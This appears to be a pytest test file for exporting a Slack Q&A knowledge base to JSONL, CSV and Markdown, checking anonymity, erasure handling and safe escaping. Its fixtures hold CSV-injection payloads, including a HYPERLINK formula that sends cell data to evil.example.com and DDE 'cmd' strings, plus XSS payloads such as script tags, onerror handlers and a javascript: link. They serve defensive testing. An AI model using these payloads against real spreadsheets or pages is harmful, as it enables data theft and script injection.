"""Exporting the knowledge base, on both databases."""

from __future__ import annotations

import csv
import html
import io
import json
import re
from datetime import UTC, datetime

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from core import asking, export, importing
from fakeslack.sender import slack_escape
from storage.db import session_scope
from tests.public import public_channels

TEAM = "T0FAKETEAM"
QA = "C0QUESTION"

_public = public_channels((TEAM, "T0OTHER"), QA)


@pytest.fixture
def knowledge(engine):
    with session_scope(engine) as s:
        first = asking.ask_question(
            s,
            team_id=TEAM,
            asker_id="U0ASKER",
            text="Where is the &lt;VPN&gt; guide? See <https://wiki.example.com/vpn|the wiki>",
            qa_channel_id=QA,
            request_id="r1",
        )
        asking.mark_posted(
            s, team_id=TEAM, question_id=first.question_id, channel_id=QA, message_ts="1700000001.000100"
        )
        asking.record_permalink(
            s,
            team_id=TEAM,
            question_id=first.question_id,
            permalink="https://x.slack.com/archives/C0QUESTION/p1700000001000100",
        )
        second = asking.ask_question(
            s, team_id=TEAM, asker_id="U0OTHER", text="Who approves expenses?", qa_channel_id=QA, request_id="r2"
        )
        asking.mark_posted(
            s, team_id=TEAM, question_id=second.question_id, channel_id=QA, message_ts="1700000002.000100"
        )
        asking.ask_question(s, team_id=TEAM, asker_id="U0OTHER", text="Never posted", qa_channel_id=QA, request_id="r3")
        other = asking.ask_question(
            s, team_id="T0OTHER", asker_id="U9", text="Other workspace", qa_channel_id=QA, request_id="r4"
        )
        asking.mark_posted(
            s, team_id="T0OTHER", question_id=other.question_id, channel_id=QA, message_ts="1700000003.000100"
        )
        for ts, user, text in [
            ("1700000011.000100", "U0HELPER", "Line one\nLine two & more"),
            ("1700000012.000100", "U0GONE", "deleted soon"),
        ]:
            asking.record_reply(
                s,
                team_id=TEAM,
                channel_id=QA,
                thread_ts="1700000001.000100",
                message_ts=ts,
                author_id=user,
                text=text,
                at=datetime.fromtimestamp(float(ts), UTC),
            )
        asking.delete_reply(
            s, team_id=TEAM, channel_id=QA, thread_ts="1700000001.000100", message_ts="1700000012.000100"
        )
    return first.question_id, second.question_id


def _export(engine, fmt, team=TEAM):
    out = io.StringIO()
    with session_scope(engine) as s:
        count = export.write(export.knowledge(s, team_id=team, batch=1), out, fmt)
    return count, out.getvalue()


def test_jsonl_has_one_posted_question_a_line_with_live_answers(engine, knowledge):
    first, second = knowledge
    count, text = _export(engine, "jsonl")
    records = [json.loads(line) for line in text.splitlines()]
    assert count == 2 and [r["id"] for r in records] == [str(first), str(second)]
    assert records[0]["text"] == "Where is the <VPN> guide? See the wiki"
    assert records[0]["permalink"].endswith("p1700000001000100")
    assert [(a["author"], a["text"], a["accepted"]) for a in records[0]["answers"]] == [
        ("U0HELPER", "Line one\nLine two & more", False)
    ]
    assert records[1]["answers"] == [] and records[1]["asker"] == "U0OTHER"
    assert all(r["team_id"] == TEAM for r in records)


def test_csv_has_a_row_per_answer_and_one_for_a_question_without(engine, knowledge):
    _, text = _export(engine, "csv")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert [(r["question"][:14], r["answer"]) for r in rows] == [
        ("Where is the <", "Line one\nLine two & more"),
        ("Who approves e", ""),
    ]


def test_markdown_reads_as_a_faq(engine, knowledge):
    _, text = _export(engine, "markdown")
    assert "## Where is the &lt;VPN> guide? See the wiki" in text  # shown as <VPN>, never a tag
    assert "> Line one\n> Line two & more" in text
    assert "_No answers yet._" in text and "deleted soon" not in text


def test_every_workspace_without_a_team(engine, knowledge):
    count, text = _export(engine, "jsonl", team=None)
    assert count == 3 and "Other workspace" in text


def test_an_unknown_format_is_refused():
    with pytest.raises(ValueError, match="jsonl, csv, markdown"):
        export.write(iter([]), io.StringIO(), "xml")


def test_anonymous_askers_stay_anonymous_and_accepted_answers_topics_and_details_are_kept(engine):
    from core import accepting

    with session_scope(engine) as s:
        asked = asking.ask_question(
            s,
            team_id=TEAM,
            asker_id="U0SHY",
            text="Is the reorg real?",
            details="Heard it at lunch",
            topics=["Org Design", "org-design", "Careers"],
            anonymous=True,
            qa_channel_id=QA,
            request_id="anon",
        )
        asking.mark_posted(
            s, team_id=TEAM, question_id=asked.question_id, channel_id=QA, message_ts="1700000005.000100"
        )
        asking.record_reply(
            s,
            team_id=TEAM,
            channel_id=QA,
            thread_ts="1700000005.000100",
            message_ts="1700000006.000100",
            author_id="U0HR",
            text="No",
            at=datetime.fromtimestamp(1700000006, UTC),
        )
        accepting.accept(s, team_id=TEAM, question_id=asked.question_id, answer_ts="1700000006.000100", user_id="U0SHY")
    _, text = _export(engine, "jsonl")
    [record] = [json.loads(line) for line in text.splitlines()]
    assert record["asker"] is None and "U0SHY" not in text
    assert record["topics"] == ["Careers", "Org Design"] and record["details"] == "Heard it at lunch"
    assert record["answers"][0]["accepted"] is True
    for fmt in ("csv", "markdown"):
        assert "U0SHY" not in _export(engine, fmt)[1]
    assert "anonymously" in _export(engine, "markdown")[1] and "(accepted)" in _export(engine, "markdown")[1]


# -- files opened by spreadsheets and wikis: what people wrote never runs there ----------------

HOSTILE = [
    '=HYPERLINK("https://evil.example.com/?d="&A1, "Click for the answer")',
    "+1 agreed, see cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1 after blanks",
    "\u3000=1+1 after an ideographic space",
    "\uff1d1+1 (full-width equals)",
    "\uff0b1 \uff0d1 \uff20A1 (full-width plus, minus, at)",
    "'=1+1 already quoted",
    "''=1+1 quoted twice",
    "'tis a plain quote",
    "Plain text, 2 + 2 = 4, me@example.com",
]


FORMULA = ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def _would_run(cell: str) -> bool:
    """A spreadsheet would read it as a formula (OWASP "CSV Injection", with full-width forms and
    leading blanks), or it is a `'` before such a cell."""
    if cell[:1] in ("\t", "\r") or cell.lstrip()[:1] in FORMULA:
        return True
    return cell[:1] == "'" and _would_run(cell[1:])


def _read_cell(cell: str) -> str:
    """What a reader of the CSV does to get the text back (the README's rule): take the first `'`
    off a cell whose rest a spreadsheet would run, or that is another such quote."""
    return cell[1:] if cell[:1] == "'" and _would_run(cell[1:]) else cell


def _hostile_knowledge(engine):
    with session_scope(engine) as s:
        report = importing.import_jsonl(
            s,
            team_id=TEAM,
            lines=[
                json.dumps(
                    {
                        "id": f"h{n}",
                        "text": f"Question {n}: {text}",
                        "details": text,
                        "answers": [{"text": text, "author": "U0HELPER"}],
                        "permalink": '=HYPERLINK("https://evil.example.com")' if n == 0 else None,
                    }
                )
                for n, text in enumerate(HOSTILE)
            ],
        )
        assert report.problems == []


def test_csv_cells_a_spreadsheet_would_run_start_with_a_quote(engine):
    _hostile_knowledge(engine)
    _, text = _export(engine, "csv")
    rows = list(csv.DictReader(io.StringIO(text)))
    for row in rows:
        for name, cell in row.items():
            assert not _would_run(cell) or cell.startswith("'"), (name, cell)
            assert not cell.lstrip().startswith(FORMULA) and not cell.startswith(("\t", "\r")), (name, cell)
    answers = [row["answer"] for row in rows]
    assert answers[0] == "'" + HOSTILE[0].strip()
    assert answers[-1] == HOSTILE[-1]  # ordinary text as it was
    assert rows[0]["permalink"] == '\'=HYPERLINK("https://evil.example.com")'


def test_a_csv_export_reads_back_as_the_text_the_jsonl_export_and_import_keep(engine):
    _hostile_knowledge(engine)
    _, jsonl = _export(engine, "jsonl")
    records = [json.loads(line) for line in jsonl.splitlines()]
    _, text = _export(engine, "csv")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert [_read_cell(r["answer"]) for r in rows] == [r["answers"][0]["text"] for r in records]
    assert [_read_cell(r["details"]) for r in rows] == [r["details"] for r in records]
    assert [r["details"] for r in records] == [t.strip() for t in HOSTILE]  # import strips, nothing more
    # And the JSON Lines export, which `knowhow import` reads, comes back the same from another workspace.
    with session_scope(engine) as s:
        assert importing.import_jsonl(s, team_id="T0OTHER", lines=jsonl.splitlines()).imported == len(HOSTILE)
    _, again = _export(engine, "jsonl", team="T0OTHER")
    assert [{**json.loads(line), "team_id": TEAM} for line in again.splitlines()] == records


@given(st.text(alphabet=st.characters(codec="utf-8", exclude_categories=["Cs"]), max_size=12))
def test_formula_safe_never_leaves_a_formula_and_a_reader_gets_the_text_back(text):
    cell = export.formula_safe(text)
    assert not cell.lstrip().startswith(FORMULA) and not cell.startswith(("\t", "\r"))
    assert _read_cell(cell) == text


def _html_tokens(markdown: str):
    tokens = MarkdownIt("commonmark").parse(markdown)
    found = []
    for token in tokens:
        for t in [token, *(token.children or [])]:
            if t.type in ("html_block", "html_inline") or (t.type == "link_open" and t.markup == "autolink"):
                found.append(t.content or t.attrs)
    return found


def test_markdown_shows_html_people_typed_as_text_and_never_runs_it(engine):
    with session_scope(engine) as s:
        asked = asking.ask_question(
            s,
            team_id=TEAM,
            asker_id="U0ASKER",
            # As Slack sends what the person typed: `&`, `<` and `>` as entities.
            text=slack_escape("Why does <script>alert(1)</script> show up in Q&A?"),
            details=slack_escape('<img src=x onerror="alert(1)"> and <!-- a comment --> and <https://evil.example>'),
            qa_channel_id=QA,
            request_id="html",
        )
        asking.mark_posted(s, team_id=TEAM, question_id=asked.question_id, channel_id=QA, message_ts="1700000007.1")
        asking.record_permalink(s, team_id=TEAM, question_id=asked.question_id, permalink="javascript:alert(1)")
        asking.record_reply(
            s,
            team_id=TEAM,
            channel_id=QA,
            thread_ts="1700000007.1",
            message_ts="1700000008.1",
            author_id="U0HELPER",
            text=slack_escape(
                "Escape it: write &lt;b&gt; for <b>, and a < b && c > d stays.\n</blockquote><svg/onload=alert(1)>"
            ),
            at=datetime.fromtimestamp(1700000008, UTC),
        )
    _, text = _export(engine, "markdown")
    assert _html_tokens(text) == []
    assert "javascript:" not in text
    rendered = MarkdownIt("commonmark").render(text)
    for tag in ("<script", "<img", "<svg", "<!--", "</blockquote><svg"):
        assert tag not in rendered.replace("<blockquote>", "").replace("</blockquote>\n", "")
    # Readable as the person typed it, once rendered (and as plain text where nothing was escaped).
    shown = html.unescape(re.sub(r"<[^>]+>", "", rendered))
    assert "Why does <script>alert(1)</script> show up in Q&A?" in shown
    assert '<img src=x onerror="alert(1)"> and <!-- a comment --> and <https://evil.example>' in shown
    assert "write &lt;b&gt; for <b>, and a < b && c > d stays." in shown
    assert "a < b && c > d stays." in text and "in Q&A?" in text


def test_markdown_names_someone_knowhow_forgot_a_former_member(engine):
    from storage.erasure import FORMER_MEMBER
    from storage.models import Question

    with session_scope(engine) as s:
        asked = asking.ask_question(
            s, team_id=TEAM, asker_id="U0ASKER", text="Who signs NDAs?", qa_channel_id=QA, request_id="gone"
        )
        asking.mark_posted(s, team_id=TEAM, question_id=asked.question_id, channel_id=QA, message_ts="1700000009.1")
        asking.record_reply(
            s,
            team_id=TEAM,
            channel_id=QA,
            thread_ts="1700000009.1",
            message_ts="1700000010.1",
            author_id=FORMER_MEMBER,
            text="Legal does.",
            at=datetime.fromtimestamp(1700000010, UTC),
        )
        s.get(Question, asked.question_id).asker_id = FORMER_MEMBER  # both forgotten, as core.erasure does
    _, text = _export(engine, "markdown")
    assert "by a former member" in text and "**a former member**, 2023-11-14" in text
    assert FORMER_MEMBER not in text
    _, lines = _export(engine, "jsonl")
    assert json.loads(lines.splitlines()[0])["asker"] == FORMER_MEMBER  # as stored: import reads it back
